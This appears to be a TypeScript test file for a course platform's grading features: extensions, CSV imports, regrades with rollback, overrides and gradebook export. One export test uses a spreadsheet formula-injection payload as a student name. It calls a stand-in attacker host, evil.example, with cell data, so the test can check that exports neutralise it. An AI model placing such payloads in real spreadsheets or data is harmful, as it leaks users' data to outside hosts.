import { resultFixture } from '@rooflab/result/testing';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openTestApi, type TestApi } from '../testing/open-test-api.ts';
import { refusalOf } from '../testing/refusal.ts';
import { EXERCISE, gradeNext, handInGraded, join, makeSchool } from '../testing/school.ts';

/** Each test makes what it needs in it. */
let api: TestApi;

beforeAll(async () => {
  api = await openTestApi();
});

afterAll(() => api[Symbol.asyncDispose]());

const DAY_MS = 86_400_000;

test('An extension moves one student’s deadline and gives attempts; the next one takes nothing of it away, and revoked it is gone.', async () => {
  const { courseId, assignmentId, student, otherStudent, ta } = await makeSchool(api.db, {
    attemptLimit: 1,
    dueAt: new Date(Date.now() - 3_600_000),
  });
  const tess = await api.as(ta.userId);
  const until = new Date(Date.now() + DAY_MS);
  const asked = { enrolmentId: student.enrolmentId, assignmentId, reason: 'ill' };
  await tess.extension.give({ ...asked, dueAt: until, extraAttempts: 2 });
  const mine = async (userId: string) => (await (await api.as(userId)).assignment.byId({ assignmentId })).mine;
  expect(await mine(student.userId)).toMatchObject({ state: 'open', extended: true, dueAt: until, items: [{ attemptsLeft: 3 }] });
  expect(await mine(otherStudent.userId)).toMatchObject({ state: 'closed', extended: false });
  expect((await refusalOf(tess.extension.give({ ...asked, dueAt: null, extraAttempts: 1 }))).code).toBe('no-more-time');
  const { extensionId } = await tess.extension.give({ ...asked, dueAt: null, extraAttempts: 3 });
  expect(await mine(student.userId)).toMatchObject({ state: 'open', dueAt: until, items: [{ attemptsLeft: 4 }] });
  await tess.extension.revoke({ extensionId, reason: 'a mistake' });
  expect(await mine(student.userId)).toMatchObject({ items: [{ attemptsLeft: 1 }] });
  expect((await tess.extension.list({ courseId })).map(({ revokedAt }) => revokedAt !== null)).toEqual([true, true]);
});

test('Extensions by a file are read in the course’s time, tried first, and given all or none.', async () => {
  const { courseId, assignmentId, student, ta } = await makeSchool(api.db);
  await api.db.course.update({ where: { id: courseId }, data: { timeZone: 'Europe/Berlin' } });
  const { email } = await api.db.user.findUniqueOrThrow({ where: { id: student.userId } });
  const tess = await api.as(ta.userId);
  const csv = `email,due,extra attempts,reason\n${email},2027-03-28 23:59,2,ill\n`;
  const dry = await tess.extension.importCsv({ assignmentId, csv });
  expect(dry).toMatchObject({
    applied: false,
    problems: [],
    extensions: [{ name: 'Ada', dueAt: new Date('2027-03-28T21:59:00Z'), extraAttempts: 2 }],
  });
  expect(await tess.extension.list({ courseId })).toEqual([]);
  const bad = `${csv}nobody@example.org,2027-03-28 23:59,0,ill\n${email},2027-03-29 10:00,,twice\n`;
  expect((await tess.extension.importCsv({ assignmentId, csv: bad })).problems.map(({ line }) => line)).toEqual([3, 4]);
  expect((await refusalOf(tess.extension.importCsv({ assignmentId, csv: bad, dryRun: false }))).code).toBe('csv-has-problems');
  expect(await tess.extension.list({ courseId })).toEqual([]);
  await tess.extension.importCsv({ assignmentId, csv, dryRun: false });
  expect(await tess.extension.list({ courseId })).toMatchObject([{ email, reason: 'ill', grantedBy: 'Tess' }]);
});

test('A regrade shows what flips before anything changes, is put into effect at once, and rolled back.', async () => {
  const { courseId, assignmentId, student, otherStudent, instructor } = await makeSchool(api.db);
  const adas = await handInGraded(api, { enrolmentId: student.enrolmentId, assignmentId });
  await handInGraded(api, { enrolmentId: otherStudent.enrolmentId, assignmentId, result: { verdict: 'too-slow', score: 40 } });
  const ines = await api.as(instructor.userId);
  const { regradeSetId, handIns } = await ines.regrade.create({ courseId, filter: { assignmentId }, reason: 'the roof was wrong' });
  expect(handIns).toBe(2);
  expect((await refusalOf(ines.regrade.putIntoEffect({ regradeSetId }))).code).toBe('not-ready');
  await ines.regrade.start({ regradeSetId });
  expect(await ines.regrade.preview({ regradeSetId })).toMatchObject({ total: 2, pending: 2, flips: [] });
  for (let i = 0; i < 2; i++) await gradeNext(api, { verdict: 'too-slow', score: 40 });
  const preview = await ines.regrade.preview({ regradeSetId });
  expect(preview).toMatchObject({ pending: 0, flips: [{ from: 'accepted', to: 'too-slow', count: 1 }] });
  expect(preview.items).toMatchObject([
    { handInId: adas, name: 'Ada', flips: true, change: -52.5, points: { before: 92.5, after: 40 } },
    { name: 'Ben', flips: false, change: 0 },
  ]);
  const ada = await api.as(student.userId);
  const points = async () => (await ada.grade.mine({ courseId })).points;
  expect(await points()).toBe(92.5);
  expect(await ines.regrade.putIntoEffect({ regradeSetId })).toEqual({ changed: 1 });
  expect([await points(), (await ada.handIn.byId({ handInId: adas })).verdict]).toEqual([40, 'too-slow']);
  await ines.regrade.rollBack({ regradeSetId });
  expect(await points()).toBe(92.5);
  expect(await ines.regrade.list({ courseId })).toMatchObject([{ state: 'rolled-back', ended: 2 }]);
  const actions = (await ines.audit.list({ courseId })).map(({ action }) => action);
  expect(actions).toEqual(
    expect.arrayContaining(['regrade-set.create', 'regrade-set.start', 'regrade-set.apply', 'regrade-set.roll-back']),
  );
});

test('An override decides, with its reason in the audit log, until it is revoked.', async () => {
  const { courseId, assignmentId, student, ta, instructor } = await makeSchool(api.db);
  await handInGraded(api, { enrolmentId: student.enrolmentId, assignmentId });
  const tess = await api.as(ta.userId);
  const item = { kind: 'exercise', subject: EXERCISE } as const;
  const asked = { enrolmentId: student.enrolmentId, assignmentId, item };
  await tess.grade.setOverride({ ...asked, score: 10, reason: 'copied' });
  const { overrideId } = await tess.grade.setOverride({ ...asked, score: 100, reason: 'explained well' });
  const ada = await api.as(student.userId);
  const grade = async () => (await ada.grade.mine({ courseId })).assignments[0]?.items[0];
  expect(await grade()).toMatchObject({ points: 100, reason: 'override' });
  expect(await tess.grade.overrides({ courseId, enrolmentId: student.enrolmentId })).toMatchObject([
    { overrideId, reason: 'explained well', madeBy: 'Tess', revokedAt: null },
    { reason: 'copied', revokedAt: expect.any(Date) },
  ]);
  await tess.grade.revokeOverride({ overrideId, reason: 'a mistake' });
  expect(await grade()).toMatchObject({ points: 92.5, reason: 'best' });
  const audited = await (await api.as(instructor.userId)).audit.list({ courseId });
  expect(audited.filter(({ action }) => action.startsWith('override.'))).toMatchObject([
    { reason: 'a mistake', actorName: 'Tess', subjectName: `Ada, ${EXERCISE}`, courseSlug: expect.any(String) },
    { reason: 'explained well' },
    { reason: 'copied' },
  ]);
});

test('A regrade in which only the fraction falls says so before it is in effect; afterwards the student reads the reason.', async () => {
  const { courseId, assignmentId, student, otherStudent, instructor } = await makeSchool(api.db);
  const timed = (fraction: number) => {
    const { performance } = resultFixture();
    return { verdict: 'too-slow' as const, score: 40, performance: { ...performance, fraction } };
  };
  const adas = await handInGraded(api, { enrolmentId: student.enrolmentId, assignmentId, result: timed(0.031) });
  await handInGraded(api, { enrolmentId: otherStudent.enrolmentId, assignmentId, result: timed(0.02) });
  const ines = await api.as(instructor.userId);
  const reason = 'The clock was read too early.';
  const { regradeSetId } = await ines.regrade.create({ courseId, filter: { assignmentId }, reason });
  await ines.regrade.start({ regradeSetId });
  await gradeNext(api, timed(0.0019));
  await gradeNext(api, timed(0.02));
  const preview = await ines.regrade.preview({ regradeSetId });
  expect(preview.changed).toEqual({ verdict: 0, points: 0, fraction: 1, any: 1 });
  expect(preview.items).toMatchObject([
    { name: 'Ada', fractionMoves: true, flips: false, change: 0, before: { fraction: 0.031 }, after: { fraction: 0.0019 } },
    { name: 'Ben', fractionMoves: false },
  ]);
  const ada = await api.as(student.userId);
  expect((await ada.handIn.byId({ handInId: adas })).regradeReason).toBeNull();
  await ines.regrade.putIntoEffect({ regradeSetId });
  expect(await ada.handIn.byId({ handInId: adas })).toMatchObject({ regradeReason: reason, regradedAt: expect.any(Date) });
});

const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Ada")';

test.each([
  ['plain', ['Name', 'Email', 'Section', 'Reduction (of 100)', '@SUM(A1) (of 100)', 'Total (of 200)', 'Late days spent'], 0, 3],
  ['canvas', ['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section', 'Reduction', '@SUM(A1)'], 0, 5],
  [
    'moodle',
    [
      'First name',
      'Surname',
      'ID number',
      'Institution',
      'Department',
      'Email address',
      'Assignment: Reduction (Real)',
      'Assignment: @SUM(A1) (Real)',
      'Course total',
    ],
    1,
    6,
  ],
] as const)('The gradebook as %s has its columns, and no cell that a spreadsheet would run.', async (format, header, nameAt, pointsAt) => {
  const { courseId, assignmentId, student, instructor } = await makeSchool(api.db);
  const ines = await api.as(instructor.userId);
  const dates = { releaseAt: new Date(Date.now() - DAY_MS), dueAt: new Date(Date.now() + 30 * DAY_MS) };
  await ines.assignment.create({ courseId, fields: { title: '@SUM(A1)', ...dates, items: [{ kind: 'exercise', subject: EXERCISE }] } });
  await handInGraded(api, { enrolmentId: student.enrolmentId, assignmentId, result: { score: 80 } });
  await join(api.db, courseId, { name: EVIL, role: 'student' });
  const { csv, fileName } = await ines.grade.exportCsv({ courseId, format });
  expect(fileName).toMatch(new RegExp(`-grades-${format}\\.csv$`));
  const rows = Papa.parse<string[]>(csv.trimEnd()).data;
  const students = rows.slice(format === 'canvas' ? 2 : 1);
  expect(rows[0]?.map((cell) => cell.replace(/^'/, ''))).toEqual(header);
  if (format === 'canvas') expect(rows[1]?.slice(-2)).toEqual(['100', '100']);
  expect(students).toHaveLength(3);
  const ada = students.find((row) => row.includes('Ada'));
  expect(ada?.[pointsAt]).toBe('80');
  expect(
    students.some((row) =>
      row
        .slice(0, nameAt + 1)
        .join(' ')
        .includes('HYPERLINK'),
    ),
  ).toBe(true);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+@\t\r]|^-(?!\d)/);
});
